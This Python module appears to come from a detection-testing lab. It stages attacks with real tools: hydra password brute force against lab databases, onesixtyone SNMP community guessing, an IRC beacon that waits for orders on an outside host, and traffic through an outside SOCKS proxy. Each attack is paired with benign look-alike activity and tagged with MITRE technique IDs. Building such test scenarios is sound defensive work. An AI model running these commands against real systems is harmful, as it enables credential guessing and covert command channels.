# SPDX-License-Identifier: Apache-2.0
"""Databases, devices, proxies and chats: attacks made with real programs, and the ordinary work that resembles them."""

import contextlib

from . import intrusion, plan
from .intrusion import run
from .scenario import ZERO, Scenario, expect
from .twins import act

ADMIN = "soumu-pc007"
FS, WEB = (plan.host(n).ipv4 for n in ("fs1", "web1"))
OUTSIDE = plan.PLACES["okiba.hozon.example"]
COMMUNITY = "komorebi-kanshi"
PG = "/usr/lib/postgresql/15/bin"

_MARIADB = f"""rm -rf /tmp/my; mkdir -m 700 /tmp/my; chown mysql /tmp/my
mariadb-install-db --no-defaults --user=mysql --datadir=/tmp/my --auth-root-authentication-method=normal >/tmp/my.log 2>&1
(for i in $(seq 60); do sleep 0.2; mariadb --no-defaults -uroot -S /tmp/my/s -e "create database jumin; create user zeimu@'%' identified by '$TOWN_PASSWORD'; grant all on jumin.* to zeimu@'%'" 2>/dev/null && break; done) &
mariadbd --no-defaults --user=mysql --datadir=/tmp/my --socket=/tmp/my/s --pid-file=/tmp/my/pid --bind-address={FS} --skip-name-resolve >>/tmp/my.log 2>&1"""
_POSTGRES = f"""rm -rf /tmp/pg; mkdir -m 700 /tmp/pg; chown postgres /tmp/pg
su postgres -c '{PG}/initdb -D /tmp/pg -A trust --locale=C.UTF-8' >/tmp/pg.log 2>&1
printf 'local all all trust\\nhost all all 10.20.0.0/16 scram-sha-256\\n' > /tmp/pg/pg_hba.conf
(for i in $(seq 60); do sleep 0.2; psql -U postgres -h /tmp/pg -c "create user bunsho password '$TOWN_PASSWORD'" -c 'create database bunsho owner bunsho' >/dev/null 2>&1 && break; done) &
su postgres -c '{PG}/postgres -D /tmp/pg -h {WEB} -k /tmp/pg' >>/tmp/pg.log 2>&1"""


@contextlib.contextmanager
def databases(p):
    """MariaDB on the file server, PostgreSQL on the portal's."""
    with intrusion.on(p, "fs1", f"env TOWN_PASSWORD=\"$TOWN_PASSWORD\" bash -c '{_quote(_MARIADB)}'"), \
            intrusion.on(p, "web1", f"env TOWN_PASSWORD=\"$TOWN_PASSWORD\" bash -c '{_quote(_POSTGRES)}'"):
        p.on("fs1", "for i in $(seq 80); do mariadb --no-defaults --skip-ssl -uzeimu -p\"$TOWN_PASSWORD\" -h " + FS + " -e 'select 1' >/dev/null 2>&1 && exit 0;"
             " sleep 0.25; done; cat /tmp/my.log; exit 1")
        p.on("web1", "for i in $(seq 80); do psql -U bunsho -h /tmp/pg -c 'select 1' >/dev/null 2>&1 && exit 0; sleep 0.25; done;"
             " cat /tmp/pg.log; exit 1")
        yield
    p.on("fs1", "kill $(cat /tmp/my/pid); sleep 1; true", check=False)
    p.on("web1", "kill $(head -1 /tmp/pg/postmaster.pid); sleep 1; true", check=False)


def _quote(text):
    return text.replace("'", "'\\''")


def db_guess(p):
    words = "\\n".join(f"himitsu{n}" for n in range(24))
    with databases(p):
        run(p, "database-brute-force", "fs1", "guesses the password of a database's user", "データベースのパスワードを総当たり",
            "T1110.001", f"""cd /tmp; printf '{words}\\n' > words
hydra -t 2 -l zeimu -P words mysql://{FS}
hydra -t 2 -l bunsho -P words postgres://{WEB}/bunsho""")


def db_work(p):
    """Applications at their databases all day; somebody mistypes once."""
    my = f"mariadb --no-defaults --skip-ssl -h {FS} -u zeimu"
    pg = f"psql -U bunsho -h {WEB} bunsho"
    with databases(p):
        act(p, "database", "web1", "fs1", "the portal asks its database", "ポータルがデータベースを利用",
            f"""for i in 1 2 3 4; do {my} -p"$TOWN_PASSWORD" jumin -e 'create table if not exists t (a int); insert into t values (1); select count(*) from t'; sleep 2; done""")
        act(p, "database", ADMIN, "web1", "looks after the document database, mistypes once",
            "文書データベースを管理（打ち間違い1回）",
            f"""PGPASSWORD=machigai {pg} -c 'select 1'
sleep 3; for i in 1 2 3; do PGPASSWORD="$TOWN_PASSWORD" {pg} -c 'select version()'; sleep 2; done""", user="tanaka")


@contextlib.contextmanager
def device(p):
    with intrusion.on(p, "fs1", f"snmpd -f -Lo -C -c /dev/null --rocommunity={COMMUNITY} udp:161"):
        yield


def communities(p):
    words = "public private admin cisco manager monitor snmp secret default write read all community security system tivoli"
    with device(p):
        run(p, "community-guess", "fs1", "tries community strings at a device", "機器のSNMPコミュニティ名を総当たり", "T1110.001",
            f"""cd /tmp; printf '%s\\n' {words} {COMMUNITY} > names; onesixtyone -c names -w 50 {FS}
snmpwalk -v2c -c {COMMUNITY} -t 1 -r 0 {FS} 1.3.6.1.2.1.1""")


_IRCD = """mkdir -p /tmp/irc; printf '[Global]\\nName = chat.kumo.example\\nInfo = chat\\nAdminInfo1 = a\\nAdminEMail = a@kumo.example\\nListen = %s\\n\
Ports = 6667\\nMotdPhrase = hello\\n[Limits]\\nMaxNickLength = 30\\n[Options]\\nIdent = no\\nPAM = no\\nDNS = no\\n' ADDRESS > /tmp/irc/conf; ngircd -n -f /tmp/irc/conf"""
_TALK = """python3 - <<'X'
import socket, time
s = socket.create_connection(("ADDRESS", 6667), 10)
s.settimeout(1.0)
def hear():
    try:
        for line in s.recv(65536).split(b"\\r\\n"):
            if line.startswith(b"PING"):
                s.sendall(b"PONG" + line[4:] + b"\\r\\n")
    except TimeoutError:
        pass
for text in ("NICK JPN|W10|48213", "USER w10 8 * :w10", "JOIN #haikyu aikotoba", "PRIVMSG #haikyu :up 3 days", "PRIVMSG #haikyu :ready"):
    s.sendall(text.encode() + b"\\r\\n")
    time.sleep(0.4)
    hear()
for n in range(8):
    time.sleep(2)
    s.sendall(b"PRIVMSG #haikyu :idle\\r\\n")
    hear()
s.sendall(b"QUIT\\r\\n")
hear()
X"""


def chat(p):
    with intrusion.on(p, "outside", f"bash -c '{_quote(_IRCD.replace('ADDRESS', OUTSIDE))}'"):
        run(p, "irc-outside", "outside", "waits for orders in a chat outside", "外部のチャット（IRC）で指示を待つ", "T1071",
            _TALK.replace("ADDRESS", OUTSIDE))


def proxy(p):
    with intrusion.on(p, "outside", f"microsocks -i {OUTSIDE} -p 1080"):
        run(p, "proxy-outside", "outside", "reaches the web through a proxy outside", "外部の中継サーバー経由で通信", "T1090.002",
            f"for i in 1 2 3; do curl -s -m 8 --socks5 {OUTSIDE}:1080 http://{plan.PLACES['www.tenki.example']}/ -o /dev/null;"
            " sleep 2; done")


def own_proxy(p):
    """A proxy of the site itself, used by several PCs for what the web proxy cannot carry."""
    with intrusion.on(p, "web1", f"microsocks -i {WEB} -p 1080"):
        for host in (ZERO, ADMIN, "jumin-pc003"):
            act(p, "browsing", host, "web1", "uses the site's own SOCKS proxy", "庁内の中継サーバーを利用",
                f"for i in 1 2; do curl -s -m 8 --socks5 {WEB}:1080 http://{plan.PLACES['www.tenki.example']}/ -o /dev/null; sleep 1; done")


def _attack(name, en, ja, play, tool, twin, *wants):
    return Scenario(name, en, ja, play, tool=tool, twin=twin,
                    expect=tuple(expect(kind, technique, "low") for kind, technique in wants))


SCENARIOS = [
    _attack("dbguess", "Many passwords at databases", "データベースへの総当たり", db_guess, "hydra (MySQL, PostgreSQL)", "dbwork",
            ("database-brute-force", "T1110.001")),
    Scenario("dbwork", "Applications at their databases", "業務でのデータベース利用", db_work, hosts=(ZERO, ADMIN)),
    _attack("communities", "Community strings tried at a device", "SNMPコミュニティ名の総当たり", communities, "onesixtyone", "snmppolls",
            ("community-guess", "T1110.001")),
    _attack("chat", "A machine waits for orders in a chat", "IRCで指示を待つ端末", chat, "lab client, ngIRCd", "browsing",
            ("irc-outside", "T1071")),
    _attack("proxy", "The web reached through a proxy outside", "外部の中継サーバーの利用", proxy, "curl, microsocks", "ownproxy",
            ("proxy-outside", "T1090.002")),
    Scenario("ownproxy", "The site's own SOCKS proxy", "庁内の中継サーバーの利用", own_proxy, hosts=(ZERO, ADMIN, "jumin-pc003")),
]
